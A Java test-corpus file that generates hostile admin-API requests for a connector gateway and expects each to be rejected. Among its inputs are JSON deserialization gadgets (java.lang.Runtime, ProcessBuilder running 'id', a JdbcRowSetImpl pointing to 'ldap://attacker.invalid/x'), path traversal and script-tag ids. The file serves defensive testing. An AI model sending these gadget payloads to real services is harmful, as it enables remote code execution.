package io.connectorgateway.gateway.hostile;

import static io.connectorgateway.gateway.hostile.HostileCase.admin;
import static io.connectorgateway.gateway.hostile.HostileCase.rule;

import io.connectorgateway.gateway.hostile.HostileCase.Expect;
import io.connectorgateway.gateway.hostile.HostileCase.Request;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/**
 * Hostile calls to the admin API with valid credentials: malformed JSON, wrong types, gadgets,
 * settings that break each SPEC rule, stale and missing versions, bad paths and parameters,
 * wrong methods and content types. The tenant {@code acme} has nothing written (every row at
 * version 0, plan FREE, no members, no directory), so each case has one right answer.
 */
final class AdminCorpus {
    static final String TENANT = "/admin/v1/tenants/" + HostileGateway.ACME;
    static final String LINE = TENANT + "/connectors/LINE";
    static final String WORKS = TENANT + "/connectors/WORKS";

    private final HostileGateway gateway;
    private final Random random;
    private final List<HostileCase> cases = new ArrayList<>();

    private AdminCorpus(HostileGateway gateway, long seed) {
        this.gateway = gateway;
        this.random = new Random(seed);
    }

    static List<HostileCase> generate(HostileGateway gateway, long seed) {
        AdminCorpus c = new AdminCorpus(gateway, seed);
        c.malformedJson();
        c.wrongTypesAndGadgets();
        c.settingsRules();
        c.versions();
        c.membersAndUrls();
        c.plan();
        c.pathsAndParameters();
        c.contentTypesAndSizes();
        c.wrongMethods();
        return c.cases;
    }

    /** One write operation of the API with a valid body, called with the credential allowed to do it. */
    record Operation(String name, String method, String path, String validBody, boolean operator) {
    }

    private List<Operation> writes() {
        return List.of(
                new Operation("settings PATCH", "PATCH", LINE + "/settings", "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":0}", false),
                new Operation("plan PUT", "PUT", TENANT + "/plan", "{\"plan\":\"LITE\",\"reason\":\"contract\"}", true),
                new Operation("members POST", "POST", LINE + "/members", "{\"add\":[\"m1\"],\"reason\":\"sales\"}", false),
                new Operation("reset-urls POST", "POST", LINE + "/members:reset-urls", "{\"members\":[\"m1\"],\"reason\":\"leak\"}", false),
                new Operation("impact POST", "POST", LINE + "/impact", "{\"enabled\":false}", false));
    }

    private Request call(Operation op, byte[] body) {
        return call(op.method(), op.path(), op.operator() ? gateway.operatorToken() : gateway.acmeToken(), body);
    }

    static Request call(String method, String path, String token, byte[] body, String... more) {
        Request r = Request.of(method, path, body, "Authorization", "Bearer " + token);
        if (body != null) {
            r = r.withHeader("Content-Type", "application/json");
        }
        for (int i = 0; i < more.length; i += 2) {
            r = r.withHeader(more[i], more[i + 1]);
        }
        return r;
    }

    private Request patch(String path, String body, String... headers) {
        return call("PATCH", path + "/settings", gateway.acmeToken(), utf8(body), headers);
    }

    private void add(String category, String name, Request request, Expect expect) {
        cases.add(new HostileCase(category, name, request, expect));
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- categories

    private void malformedJson() {
        String cat = "admin: malformed JSON";
        for (Operation op : writes()) {
            String valid = op.validBody();
            String inner = valid.substring(1, valid.length() - 1);
            // every strict prefix: a cut connection, a truncated file
            for (int len = 1; len < valid.length(); len++) {
                add(cat, op.name() + " first " + len + " of " + valid.length() + " chars", call(op, utf8(valid.substring(0, len))),
                        admin(400, "bad-request"));
            }
            String firstKey = valid.substring(1, valid.indexOf(':'));
            List<String[]> broken = List.of(
                    new String[] {"empty body", ""},
                    new String[] {"whitespace body", "  \n "},
                    new String[] {"null", "null"},
                    new String[] {"array", "[]"},
                    new String[] {"number", "42"},
                    new String[] {"string", "\"" + inner.replace("\"", "\\\"") + "\""},
                    new String[] {"true", "true"},
                    new String[] {"trailing garbage", valid + "x"},
                    new String[] {"two documents", valid + valid},
                    new String[] {"trailing comma", "{" + inner + ",}"},
                    new String[] {"comment", "{/*c*/" + inner + "}"},
                    new String[] {"single quotes", "{'x':1," + inner + "}"},
                    new String[] {"unquoted key", "{x:1," + inner + "}"},
                    new String[] {"NaN", "{\"x\":NaN," + inner + "}"},
                    new String[] {"duplicate key", "{" + firstKey + ":null," + inner + "}"},
                    new String[] {"raw control char", "{\"reason\":\"a\u0001b\"," + inner.replaceFirst(",?\"reason\":\"[a-z]+\"", "") + "}"},
                    new String[] {"unknown field", "{\"enabld\":true," + inner + "}"},
                    new String[] {"misspelt field only", "{\"reasn\":\"r\"}"},
                    new String[] {"nesting depth 40", "{\"x\":" + "[".repeat(40) + "]".repeat(40) + "," + inner + "}"},
                    new String[] {"nesting depth 10000", "{\"x\":" + "[".repeat(10_000) + "]".repeat(10_000) + "," + inner + "}"},
                    new String[] {"reason of 300,000 chars", "{\"reason\":\"" + "r".repeat(300_000) + "\"," + inner.replaceFirst(",?\"reason\":\"[a-z]+\"", "") + "}"},
                    new String[] {"number of 100 digits", "{\"x\":" + "9".repeat(100) + "," + inner + "}"},
                    new String[] {"name of 300 chars", "{\"" + "k".repeat(300) + "\":1," + inner + "}"});
            for (String[] b : broken) {
                add(cat, op.name() + " " + b[0], call(op, utf8(b[1])), admin(400, "bad-request"));
            }
            for (int[] seq : new int[][] {{0xC0, 0xAF}, {0xED, 0xA0, 0x80}, {0x80}, {0xE2, 0x82}, {0xFF}, {0xF4, 0x90, 0x80, 0x80}}) {
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                out.writeBytes(utf8("{\"reason\":\"bad"));
                StringBuilder hex = new StringBuilder();
                for (int b : seq) {
                    out.write(b);
                    hex.append(String.format("%02X ", b));
                }
                out.writeBytes(utf8("\"," + inner.replaceFirst(",?\"reason\":\"[a-z]+\"", "") + "}"));
                add(cat, op.name() + " invalid UTF-8 " + hex.toString().trim() + " in a string", call(op, out.toByteArray()),
                        admin(400, "bad-request", "UTF-8"));
            }
        }
    }

    private void wrongTypesAndGadgets() {
        String cat = "admin: wrong types and gadgets";
        String v = ",\"reason\":\"r\",\"expectedVersion\":0}";
        List<String[]> settings = List.of(
                new String[] {"enabled as string", "{\"enabled\":\"true\"" + v},
                new String[] {"enabled as number", "{\"enabled\":1" + v},
                new String[] {"enabled as object", "{\"enabled\":{}" + v},
                new String[] {"expectedVersion as string", "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":\"0\"}"},
                new String[] {"expectedVersion fractional", "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":0.5}"},
                new String[] {"expectedVersion 1e2", "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":1e2}"},
                new String[] {"expectedVersion over 64 bits", "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":99999999999999999999}"},
                new String[] {"expectedVersion true", "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":true}"},
                new String[] {"permissionMode lower case", "{\"permissionMode\":\"by_member\"" + v},
                new String[] {"permissionMode unknown", "{\"permissionMode\":\"EVERYONE\"" + v},
                new String[] {"permissionMode as number", "{\"permissionMode\":0" + v},
                new String[] {"permissionMode empty", "{\"permissionMode\":\"\"" + v},
                new String[] {"greeting as string", "{\"greeting\":\"hello\"" + v},
                new String[] {"greeting unknown field", "{\"greeting\":{\"enabled\":true,\"txt\":\"hi\"}" + v},
                new String[] {"attachments kinds as string", "{\"attachments\":{\"kinds\":\"IMAGE\"}" + v},
                new String[] {"attachments unknown kind", "{\"attachments\":{\"kinds\":[\"HOLOGRAM\"]}" + v},
                new String[] {"attachments null kind", "{\"attachments\":{\"kinds\":[null]}" + v},
                new String[] {"attachments action unknown", "{\"attachments\":{\"action\":\"DELETE\"}" + v},
                new String[] {"attachments action as number", "{\"attachments\":{\"action\":1}" + v},
                new String[] {"reason as number", "{\"enabled\":false,\"reason\":42,\"expectedVersion\":0}"},
                new String[] {"reason as array", "{\"enabled\":false,\"reason\":[\"r\"],\"expectedVersion\":0}"},
                new String[] {"version as a field of the row", "{\"version\":5" + v},
                new String[] {"plan through settings", "{\"plan\":\"ADVANCED\"" + v},
                new String[] {"@class gadget", "{\"@class\":\"java.lang.Runtime\",\"enabled\":false" + v},
                new String[] {"@type gadget", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.invalid/x\"" + v},
                new String[] {"array-wrapped type id", "[\"io.connectorgateway.gateway.admin.SettingsPatch\",{\"enabled\":false" + v + "]"},
                new String[] {"Runtime array", "[\"java.lang.Runtime\",{\"exec\":\"id\"}]"},
                new String[] {"gadget as greeting", "{\"greeting\":[\"java.lang.ProcessBuilder\",{\"command\":[\"id\"]}]" + v},
                new String[] {"gadget as attachments", "{\"attachments\":{\"@class\":\"java.lang.Runtime\"}" + v},
                new String[] {"gadget as kind", "{\"attachments\":{\"kinds\":[[\"java.lang.Runtime\",\"x\"]]}" + v},
                new String[] {"gadget as reason", "{\"enabled\":false,\"reason\":{\"@class\":\"java.lang.String\"},\"expectedVersion\":0}"});
        for (String[] s : settings) {
            add(cat, "settings " + s[0], patch(LINE, s[1]), admin(400, "bad-request"));
        }
        List<String[]> members = List.of(
                new String[] {"add as string", "{\"add\":\"m1\",\"reason\":\"r\"}"},
                new String[] {"add with a number", "{\"add\":[1],\"reason\":\"r\"}"},
                new String[] {"add with an object", "{\"add\":[{\"id\":\"m1\"}],\"reason\":\"r\"}"},
                new String[] {"add with a gadget", "{\"add\":[{\"@class\":\"java.lang.Runtime\"}],\"reason\":\"r\"}"},
                new String[] {"add with null", "{\"add\":[null],\"reason\":\"r\"}"},
                new String[] {"expectedVersions as array", "{\"add\":[\"m1\"],\"reason\":\"r\",\"expectedVersions\":[1]}"},
                new String[] {"expectedVersions value string", "{\"add\":[\"m1\"],\"reason\":\"r\",\"expectedVersions\":{\"m1\":\"1\"}}"},
                new String[] {"@type gadget", "{\"@type\":\"java.net.URL\",\"add\":[\"m1\"],\"reason\":\"r\"}"});
        for (String[] m : members) {
            add(cat, "members " + m[0], call("POST", LINE + "/members", gateway.acmeToken(), utf8(m[1])), admin(400, "bad-request"));
        }
        List<String[]> plans = List.of(
                new String[] {"plan unknown", "{\"plan\":\"PLATINUM\",\"reason\":\"r\"}"},
                new String[] {"plan lower case", "{\"plan\":\"lite\",\"reason\":\"r\"}"},
                new String[] {"plan as number", "{\"plan\":1,\"reason\":\"r\"}"},
                new String[] {"plan as gadget", "{\"plan\":{\"@type\":\"java.lang.Runtime\"},\"reason\":\"r\"}"},
                new String[] {"plan with tenant field", "{\"plan\":\"LITE\",\"reason\":\"r\",\"tenant\":\"globex\"}"});
        for (String[] p : plans) {
            add(cat, "plan " + p[0], call("PUT", TENANT + "/plan", gateway.operatorToken(), utf8(p[1])), admin(400, "bad-request"));
        }
        List<String[]> resets = List.of(
                new String[] {"all as string", "{\"all\":\"yes\",\"reason\":\"r\"}"},
                new String[] {"members as string", "{\"members\":\"m1\",\"reason\":\"r\"}"},
                new String[] {"all and members", "{\"all\":true,\"members\":[\"m1\"],\"reason\":\"r\"}"},
                new String[] {"neither all nor members", "{\"reason\":\"r\"}"},
                new String[] {"member id with a colon", "{\"members\":[\"a:b\"],\"reason\":\"r\"}"});
        for (String[] r : resets) {
            add(cat, "reset-urls " + r[0], call("POST", LINE + "/members:reset-urls", gateway.acmeToken(), utf8(r[1])), admin(400, "bad-request"));
        }
        List<String[]> impacts = List.of(
                new String[] {"plan unknown", "{\"plan\":\"GOLD\"}"},
                new String[] {"permissionMode as number", "{\"permissionMode\":1}"},
                new String[] {"removeMembers as string", "{\"removeMembers\":\"m1\"}"},
                new String[] {"enabled as string", "{\"enabled\":\"false\"}"},
                new String[] {"unknown field", "{\"disable\":true}"});
        for (String[] i : impacts) {
            add(cat, "impact " + i[0], call("POST", LINE + "/impact", gateway.acmeToken(), utf8(i[1])), admin(400, "bad-request"));
        }
    }

    /** Each SPEC rule a settings change can break: 422, the violation naming the rule. */
    private void settingsRules() {
        String cat = "admin: settings that break a SPEC rule";
        String v = ",\"reason\":\"r\",\"expectedVersion\":0}";
        String over = "x".repeat(5001);
        add(cat, "R1 enable LINE on plan FREE", patch(LINE, "{\"enabled\":true" + v), rule("R1", "LITE"));
        add(cat, "R1 enable WORKS on plan FREE", patch(WORKS, "{\"enabled\":true" + v), rule("R1", "LITE"));
        add(cat, "R1 restrict attachments on plan FREE", patch(LINE, "{\"attachments\":{\"enabled\":true,\"action\":\"BLOCK\"}" + v),
                rule("R1", "LITE"));
        add(cat, "R1 enable and restrict on plan FREE", patch(WORKS, "{\"enabled\":true,\"attachments\":{\"enabled\":true}" + v),
                rule("R1", "LITE"));
        add(cat, "R7 greeting on WORKS", patch(WORKS, "{\"greeting\":{\"enabled\":true,\"text\":\"hi\"}" + v), rule("R7", "LINE"));
        add(cat, "R7 greeting text on WORKS, greeting on", patch(WORKS, "{\"greeting\":{\"enabled\":true,\"text\":\"hi\",\"salesInfo\":\"10%\"}" + v),
                rule("R7", "LINE"));
        add(cat, "R7 greeting on with empty text", patch(LINE, "{\"greeting\":{\"enabled\":true,\"text\":\"\"}" + v), rule("R7", "text"));
        add(cat, "R7 greeting on with blank text", patch(LINE, "{\"greeting\":{\"enabled\":true,\"text\":\" \\n\\t \"}" + v), rule("R7", "text"));
        add(cat, "R7 greeting on without text", patch(LINE, "{\"greeting\":{\"enabled\":true}" + v), rule("R7", "text"));
        add(cat, "R7 greeting text of 5001 chars", patch(LINE, "{\"greeting\":{\"enabled\":true,\"text\":\"" + over + "\"}" + v),
                rule("R7", "5001"));
        add(cat, "R7 greeting text of 5001 chars, greeting off", patch(LINE, "{\"greeting\":{\"text\":\"" + over + "\"}" + v),
                rule("R7", "5001"));
        add(cat, "R7 sales info of 5001 chars", patch(LINE, "{\"greeting\":{\"enabled\":true,\"text\":\"hi\",\"salesInfo\":\"" + over + "\"}" + v),
                rule("R7", "5001"));
        add(cat, "R7 greeting text of 5001 emoji", patch(LINE, "{\"greeting\":{\"text\":\"" + "\uD83D\uDE00".repeat(5001) + "\"}" + v),
                rule("R7", "LINE allows"));
        add(cat, "R8 restrict stickers", patch(LINE, "{\"attachments\":{\"kinds\":[\"STICKER\"]}" + v), rule("R8", "STICKER"));
        add(cat, "R8 restrict images and stickers", patch(WORKS, "{\"attachments\":{\"kinds\":[\"IMAGE\",\"STICKER\"],\"action\":\"STRIP\"}" + v),
                rule("R8", "STICKER"));
        add(cat, "R9 auto-grant in ALL_MEMBERS (default)", patch(LINE, "{\"autoGrantNewMembers\":true" + v), rule("R9", "BY_MEMBER"));
        add(cat, "R9 auto-grant with ALL_MEMBERS said", patch(WORKS, "{\"autoGrantNewMembers\":true,\"permissionMode\":\"ALL_MEMBERS\"" + v),
                rule("R9", "BY_MEMBER"));
        add(cat, "R10 no reason", patch(LINE, "{\"enabled\":false,\"expectedVersion\":0}"), rule("R10", "reason"));
        add(cat, "R10 empty reason", patch(LINE, "{\"enabled\":false,\"reason\":\"\",\"expectedVersion\":0}"), rule("R10", "reason"));
        add(cat, "R10 blank reason", patch(LINE, "{\"enabled\":false,\"reason\":\"   \",\"expectedVersion\":0}"), rule("R10", "reason"));
        add(cat, "R10 reason of 1001 chars", patch(LINE, "{\"enabled\":false,\"reason\":\"" + "r".repeat(1001) + "\",\"expectedVersion\":0}"),
                rule("R10", "1000"));
        add(cat, "R1 and R9 at once: first named is R1", patch(LINE, "{\"enabled\":true,\"autoGrantNewMembers\":true" + v), rule("R1", null));
        add(cat, "R3 add an unknown member", call("POST", LINE + "/members", gateway.acmeToken(),
                utf8("{\"add\":[\"ghost\"],\"reason\":\"r\"}")), rule("R3", "ghost"));
        for (int i = 0; i < 5; i++) {
            String id = "stranger-" + Long.toHexString(random.nextLong());
            add(cat, "R3 add unknown member " + id, call("POST", WORKS + "/members", gateway.acmeToken(),
                    utf8("{\"add\":[\"" + id + "\"],\"reason\":\"r\"}")), rule("R3", id));
        }
        add(cat, "R5 reset the URL of a member not on the list", call("POST", LINE + "/members:reset-urls", gateway.acmeToken(),
                utf8("{\"members\":[\"ghost\"],\"reason\":\"r\"}")), rule("R5", "ghost"));
        add(cat, "R10 members without reason", call("POST", LINE + "/members", gateway.acmeToken(), utf8("{\"add\":[\"m1\"]}")),
                rule("R10", "reason"));
        add(cat, "R1 plan change without plan", call("PUT", TENANT + "/plan", gateway.operatorToken(), utf8("{\"reason\":\"r\"}")),
                rule("R1", "plan"));
        add(cat, "R1 plan null", call("PUT", TENANT + "/plan", gateway.operatorToken(), utf8("{\"plan\":null,\"reason\":\"r\"}")),
                rule("R1", "plan"));
        add(cat, "R10 plan change without reason", call("PUT", TENANT + "/plan", gateway.operatorToken(), utf8("{\"plan\":\"LITE\"}")),
                rule("R10", "reason"));
    }

    /** Stale, missing and malformed versions (the row is at version 0). */
    private void versions() {
        String cat = "admin: stale or missing versions";
        for (long stale : new long[] {1, 2, 7, 1000, -1, Long.MAX_VALUE}) {
            add(cat, "expectedVersion " + stale + " (row at 0)", patch(LINE, "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":" + stale + "}"),
                    admin(409, "conflict", "version 0"));
            add(cat, "If-Match \"" + stale + "\" (row at 0)", patch(WORKS, "{\"enabled\":false,\"reason\":\"r\"}", "If-Match", "\"" + stale + "\""),
                    admin(409, "conflict", "version 0"));
        }
        add(cat, "If-Match W/\"5\"", patch(LINE, "{\"enabled\":false,\"reason\":\"r\"}", "If-Match", "W/\"5\""), admin(409, "conflict"));
        add(cat, "no version at all", patch(LINE, "{\"enabled\":false,\"reason\":\"r\"}"), admin(428, "version-required"));
        add(cat, "no version, greeting change", patch(LINE, "{\"greeting\":{\"enabled\":false},\"reason\":\"r\"}"), admin(428, "version-required"));
        add(cat, "expectedVersion null", patch(LINE, "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":null}"), admin(428, "version-required"));
        add(cat, "empty If-Match", patch(LINE, "{\"enabled\":false,\"reason\":\"r\"}", "If-Match", ""), admin(428, "version-required"));
        for (String ifMatch : List.of("abc", "*", "\"\"", "\"1.5\"", "\"0x1\"", "\"99999999999999999999\"", "W/", "\"0\" \"1\"")) {
            add(cat, "If-Match " + ifMatch, patch(LINE, "{\"enabled\":false,\"reason\":\"r\"}", "If-Match", ifMatch),
                    admin(400, "bad-request", "If-Match"));
        }
        add(cat, "If-Match and expectedVersion disagree", patch(LINE, "{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":0}",
                "If-Match", "\"1\""), admin(400, "bad-request", "disagree"));
        add(cat, "If-Match twice", patch(LINE, "{\"enabled\":false,\"reason\":\"r\"}", "If-Match", "\"0\"", "If-Match", "\"1\""),
                admin(400, "bad-request", "If-Match"));
        add(cat, "change that sets no field", patch(LINE, "{\"reason\":\"r\",\"expectedVersion\":0}"), admin(400, "bad-request", "no field"));
        add(cat, "change of only nulls", patch(LINE, "{\"enabled\":null,\"greeting\":{},\"reason\":\"r\",\"expectedVersion\":0}"),
                admin(400, "bad-request", "no field"));
        add(cat, "member expectedVersions stale", call("POST", LINE + "/members", gateway.acmeToken(),
                utf8("{\"add\":[\"m1\"],\"reason\":\"r\",\"expectedVersions\":{\"m1\":3}}")), admin(409, "conflict", "m1"));
    }

    private void membersAndUrls() {
        String cat = "admin: member lists";
        List<String> badIds = List.of("a:b", "", " ", "x".repeat(129), "\u00fc", "a b", "a/b", "../m1", "m1\\n", "<script>");
        for (String id : badIds) {
            String json = "\"" + id.replace("\\", "\\\\") + "\"";
            add(cat, "add id " + json, call("POST", LINE + "/members", gateway.acmeToken(), utf8("{\"add\":[" + json + "],\"reason\":\"r\"}")),
                    admin(400, "bad-request", "member id"));
            add(cat, "remove id " + json, call("POST", LINE + "/members", gateway.acmeToken(), utf8("{\"remove\":[" + json + "],\"reason\":\"r\"}")),
                    admin(400, "bad-request", "member id"));
            add(cat, "reset id " + json, call("POST", LINE + "/members:reset-urls", gateway.acmeToken(),
                    utf8("{\"members\":[" + json + "],\"reason\":\"r\"}")), admin(400, "bad-request", "member id"));
        }
        String many = String.join(",", Collections.nCopies(1001, "\"m1\""));
        add(cat, "1001 members in one call", call("POST", LINE + "/members", gateway.acmeToken(), utf8("{\"add\":[" + many + "],\"reason\":\"r\"}")),
                admin(400, "bad-request", "1000"));
        add(cat, "1001 URL resets in one call", call("POST", LINE + "/members:reset-urls", gateway.acmeToken(),
                utf8("{\"members\":[" + many + "],\"reason\":\"r\"}")), admin(400, "bad-request", "1000"));
        add(cat, "add and remove the same member", call("POST", LINE + "/members", gateway.acmeToken(),
                utf8("{\"add\":[\"m1\"],\"remove\":[\"m1\"],\"reason\":\"r\"}")), admin(400, "bad-request", "both"));
        add(cat, "nothing to add or remove", call("POST", LINE + "/members", gateway.acmeToken(), utf8("{\"add\":[],\"remove\":[],\"reason\":\"r\"}")),
                admin(400, "bad-request"));
    }

    private void plan() {
        String cat = "admin: member lists";
        add(cat, "plan change by a tenant admin with a bad body: 403 before the body is judged",
                call("PUT", TENANT + "/plan", gateway.acmeToken(), utf8("{\"plan\":\"PLATINUM\"}")), admin(403, "forbidden", "operator"));
    }

    private void pathsAndParameters() {
        String cat = "admin: paths and parameters";
        String t = gateway.acmeToken();
        for (String connector : List.of("FOO", "LINEX", "line%00", "%20LINE", "DIRECTORY")) {
            add(cat, "settings of connector " + connector, call("GET", TENANT + "/connectors/" + connector + "/settings", t, null),
                    admin(400, "bad-request", "connector"));
        }
        for (String tenant : List.of("a%3Ab", "x".repeat(129), "%C3%BC", "a%20b")) {
            add(cat, "settings of tenant " + (tenant.length() > 20 ? tenant.substring(0, 10) + "..." : tenant),
                    call("GET", "/admin/v1/tenants/" + tenant + "/connectors/LINE/settings", gateway.operatorToken(), null),
                    admin(400, "bad-request", "tenant"));
        }
        for (String q : List.of("limit=0", "limit=501", "limit=-1", "limit=abc", "limit=1e3", "limit=99999999999999999999",
                "cursor=not-a-cursor", "cursor=%FF%FE", "from=yesterday", "to=2024-13-45", "from=99999999999999999999",
                "kind=NOPE", "connector=FOO", "room=a:b", "member=%C3%BC")) {
            add(cat, "audit search ?" + q, call("GET", TENANT + "/audit?" + q, gateway.acmeAuditorToken(), null),
                    admin(400, "bad-request"));
        }
        // waitSeconds and limit of the tail are clamped (documented), so only unparseable values are refused
        for (String q : List.of("waitSeconds=abc", "waitSeconds=1.5", "cursor=garbage", "cursor=dCx4Onk", "limit=x")) {
            add(cat, "audit tail ?" + q, call("GET", TENANT + "/audit:tail?" + q, gateway.acmeAuditorToken(), null),
                    admin(400, "bad-request"));
        }
        add(cat, "members ?all=maybe", call("GET", LINE + "/members?all=maybe", t, null), admin(400, "bad-request"));
        add(cat, "unknown path", call("GET", TENANT + "/secrets", t, null), HostileCase.http(404));
        add(cat, "unknown path under a connector", call("GET", LINE + "/tokens", t, null), HostileCase.http(404));
    }

    private void contentTypesAndSizes() {
        String cat = "admin: content types and sizes";
        byte[] body = utf8("{\"enabled\":false,\"reason\":\"r\",\"expectedVersion\":0}");
        for (String type : List.of("application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/octet-stream", "image/png")) {
            add(cat, "settings PATCH as " + type, Request.of("PATCH", LINE + "/settings", body, "Authorization", "Bearer " + gateway.acmeToken(),
                    "Content-Type", type), HostileCase.http(415));
        }
        byte[] big = new byte[WebhookCorpus.MIB + 10];
        java.util.Arrays.fill(big, (byte) ' ');
        big[0] = '{';
        big[big.length - 1] = '}';
        for (Operation op : writes()) {
            add(cat, op.name() + " body over 1 MiB", call(op, big), admin(413, "payload-too-large"));
        }
    }

    private void wrongMethods() {
        String cat = "admin: wrong methods";
        String o = gateway.operatorToken();
        String[][] calls = {
                {"DELETE", LINE + "/settings"}, {"POST", LINE + "/settings"}, {"PUT", LINE + "/settings"},
                {"GET", TENANT + "/plan"}, {"POST", TENANT + "/plan"}, {"DELETE", TENANT + "/plan"}, {"PATCH", TENANT + "/plan"},
                {"PUT", LINE + "/members"}, {"DELETE", LINE + "/members"}, {"PATCH", LINE + "/members"},
                {"GET", LINE + "/members:reset-urls"}, {"DELETE", LINE + "/members:reset-urls"},
                {"GET", LINE + "/impact"}, {"PUT", LINE + "/impact"},
                {"POST", TENANT + "/audit"}, {"DELETE", TENANT + "/audit"}, {"POST", TENANT + "/audit:tail"},
                {"TRACE", LINE + "/settings"}};
        for (String[] c : calls) {
            boolean body = !c[0].equals("GET") && !c[0].equals("DELETE") && !c[0].equals("TRACE");
            add(cat, c[0] + " " + c[1], call(c[0], c[1], o, body ? utf8("{\"reason\":\"r\"}") : null), HostileCase.http(405));
        }
    }
}
